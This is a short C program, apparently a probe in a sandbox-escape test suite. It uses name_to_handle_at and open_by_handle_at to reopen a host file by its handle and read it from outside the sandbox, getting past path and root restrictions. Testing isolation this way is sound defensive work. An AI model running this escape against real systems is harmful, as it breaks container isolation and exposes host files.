/* SPDX-License-Identifier: Apache-2.0 */
/* Opens a file of the host by its handle, which no path and no root restrains. With "tell" it prints the handle of a file. */
#include "../attack.h"

static struct {
  struct file_handle head;
  unsigned char bytes[MAX_HANDLE_SZ];
} handle;

int main(int argc, char **argv) {
  int mount;
  if (strcmp(argument(argc, argv, 1), "tell") == 0) {
    handle.head.handle_bytes = MAX_HANDLE_SZ;
    step(name_to_handle_at(AT_FDCWD, argument(argc, argv, 2), &handle.head, &mount, 0), "name_to_handle_at");
    printf("%d ", handle.head.handle_type);
    for (unsigned i = 0; i < handle.head.handle_bytes; i++)
      printf("%02x", handle.head.f_handle[i]);
    puts("");
    return 0;
  }
  const char *hex = argument(argc, argv, 2);
  if (*hex == 0)
    absent("this file system has no handles");
  handle.head.handle_type = atoi(argv[1]);
  handle.head.handle_bytes = strlen(hex) / 2;
  for (unsigned i = 0; i < handle.head.handle_bytes; i++)
    sscanf(hex + 2 * i, "%2hhx", &handle.head.f_handle[i]);
  /* Any directory of the same file system will do: the workspace is one. */
  int here = (int)step(open(".", O_RDONLY | O_DIRECTORY), "opening the workspace");
  int fd = (int)step(open_by_handle_at(here, &handle.head, O_RDONLY), "open_by_handle_at");
  char text[16] = "";
  step(read(fd, text, 7), "read");
  worked("the file outside says: %s", text);
}
